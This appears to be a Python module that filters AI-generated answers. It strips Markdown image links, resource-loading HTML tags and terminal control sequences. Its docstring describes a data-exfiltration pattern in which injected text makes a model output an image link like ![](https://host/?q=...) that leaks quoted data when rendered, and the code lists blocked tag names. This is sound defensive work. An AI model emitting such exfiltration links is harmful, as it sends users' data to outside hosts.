"""Remove image links, HTML that loads resources and control characters from answers.

An answer that quotes text from an image can be made to carry ``![](https://host/?q=...)``; a client that
renders it sends the quoted data to that host (OWASP LLM10). Answers never need such links, since images are
separate fields. Escape sequences and bidirectional controls would change what a terminal shows.

The filter works on a stream; the result does not depend on how the text is divided into chunks.
"""

from __future__ import annotations

import re

__all__ = ["AnswerFilter", "filter_answer"]

MAX_ALT_CHARS = 1000
MAX_TARGET_CHARS = 4000
MAX_TAG_CHARS = 2000
MAX_ESCAPE_CHARS = 300
WINDOW = 2 + MAX_ALT_CHARS + MAX_TARGET_CHARS + MAX_TAG_CHARS
"""Characters that are significant inside an image link or a tag."""

_LOADING_TAGS = frozenset(
    {"applet", "audio", "base", "body", "embed", "feimage", "form", "frame", "frameset", "iframe", "image"}
    | {"img", "input", "link", "math", "meta", "object", "picture", "script", "source", "style", "svg"}
    | {"track", "use", "video"}
)
_CONTROLS = re.compile(
    r"[\x00-\x08\x0b-\x1f\x7f-\x9f\xad\u061c\u200b\u200e\u200f\u2028-\u202e\u2060-\u206f\ufeff\ufff9-\ufffb"
    r"\ud800-\udfff\U000e0000-\U000e0fff]"
)
_ESCAPE = re.compile(
    r"\x1b(?:\[[0-?]{0,40}[ -/]{0,9}[@-~]|[\]PX^_][^\x07\x1b]{0,250}(?:\x07|\x1b\\)"
    r"|[ -/]{0,9}[0-OQ-WYZ\\`-~])"
)
_START = re.compile(r"[!<]")
_SUSPECT = re.compile(rf"[!<]|{_CONTROLS.pattern}")
_TAG_START = re.compile(r"<[/!?]?[A-Za-z]|<[!?/]")
_TAG_NAME = re.compile(r"</?([A-Za-z][A-Za-z0-9]*)")
_PLAIN_TAG = re.compile(r"</?[A-Za-z][A-Za-z0-9-]*(?:\s+[A-Za-z][A-Za-z0-9_-]*)*\s*/?>")
"""A tag that loads nothing; other text between angle brackets may contain Markdown images."""
_AUTOLINK = re.compile(r"<([A-Za-z][A-Za-z0-9+.-]*:[^\s<>]*|[^\s<>@]+@[^\s<>@]+)>")


def filter_answer(text: str) -> str:
    """Filter a whole text."""
    if not text or _SUSPECT.search(text) is None:
        return text
    whole = AnswerFilter()
    return whole.feed(text) + whole.finish()


class AnswerFilter:
    """Filters one text that arrives in chunks.

    Text is held back only while it may be the beginning of something that is removed.
    """

    def __init__(self) -> None:
        self._raw = ""
        """Held back since it may be the beginning of an escape sequence."""
        self._text = ""
        """Held back since it may be the beginning of an image or a tag."""
        self._last = ""
        """The last character emitted."""

    def feed(self, piece: str) -> str:
        """Take the next chunk and return the text that can be emitted."""
        self._text += self._printable(piece, is_end=False)
        return self._scan(is_end=False)

    def finish(self) -> str:
        """Return the rest at the end of the text."""
        self._text += self._printable("", is_end=True)
        return self._scan(is_end=True)

    def _printable(self, piece: str, *, is_end: bool) -> str:
        """Take the next chunk and return its complete part, without escape sequences and controls."""
        text, at, kept = self._raw + piece, 0, list[str]()
        while (start := text.find("\x1b", at)) >= 0:
            kept.append(text[at:start])
            at = start
            found = _ESCAPE.match(text, start)
            if found is None and not is_end and len(text) - start < MAX_ESCAPE_CHARS:
                break
            at = found.end() if found else start + 1
        else:
            kept.append(text[at:])
            at = len(text)
        self._raw = text[at:]
        return _CONTROLS.sub("", "".join(kept))

    def _scan(self, *, is_end: bool) -> str:
        given: list[str] = []
        text, at = self._text, 0
        while at < len(text):
            found = _START.search(text, at)
            start = found.start() if found else len(text)
            self._give(given, text[at:start])
            at = start
            if found is None:
                break
            ahead = text[at : at + WINDOW]
            used, out = _image(ahead, is_end) if ahead[0] == "!" else _tag(ahead, is_end)
            if not used:
                break
            self._give(given, out)
            at += used
        self._text = text[at:]
        return "".join(given)

    def _give(self, given: list[str], text: str) -> None:
        """Emit text, ensuring that it does not form an image or a tag with text emitted before."""
        if not text:
            return
        if (self._last == "!" and text[0] == "[") or (
            self._last == "<" and (text[0].isalpha() or text[0] in "/!?")
        ):
            given.append(" ")
        given.append(text)
        self._last = text[-1]


def _image(text: str, is_end: bool) -> tuple[int, str]:
    """Filter a text that begins with ``!``: how much of it is used, 0 if more is needed, and the result."""
    if len(text) == 1:
        return (1, "!") if is_end else (0, "")
    if text[1] != "[":
        return 1, "!"
    close = _closing(text, 1, "[", "]", MAX_ALT_CHARS)
    if close == 0 and not is_end:
        return 0, ""
    if close <= 0:
        return 2, "! ["
    alt = re.sub(r"[\[\]<>!`]", "", text[2:close]).strip() or "image"
    end = close + 1
    if end == len(text):
        return (end, alt) if is_end else (0, "")
    if text[end] in "([":
        opening, closing = ("(", ")") if text[end] == "(" else ("[", "]")
        target = _closing(text, end, opening, closing, MAX_TARGET_CHARS)
        if target == 0 and not is_end:
            return 0, ""
        end = target + 1 if target > 0 else end
    return end, alt


def _closing(text: str, start: int, opening: str, closing: str, limit: int) -> int:
    """Index of the bracket that closes the one at ``start``; 0 if more text is needed, -1 over the limit."""
    depth, index = 0, start
    while index < min(len(text), start + limit):
        char = text[index]
        if char == "\\":
            index += 1
        elif char == opening:
            depth += 1
        elif char == closing:
            depth -= 1
            if not depth:
                return index
        index += 1
    return -1 if len(text) >= start + limit else 0


def _tag(text: str, is_end: bool) -> tuple[int, str]:
    """Filter a text that begins with ``<``; see :func:`_image`."""
    if len(text) < 3 and not is_end:
        return 0, ""
    if not _TAG_START.match(text):
        return 1, "<"
    end = text.find(">", 0, MAX_TAG_CHARS)
    if end < 0:
        return (1, "< ") if is_end or len(text) >= MAX_TAG_CHARS else (0, "")
    whole = text[: end + 1]
    if "<" in whole[1:]:
        return 1, "< "
    name = _TAG_NAME.match(whole)
    if link := _AUTOLINK.fullmatch(whole):
        return end + 1, link[1]
    if name and name[1].lower() in _LOADING_TAGS:
        return end + 1, " "
    if not _PLAIN_TAG.fullmatch(whole):
        return 1, "< "
    return end + 1, whole
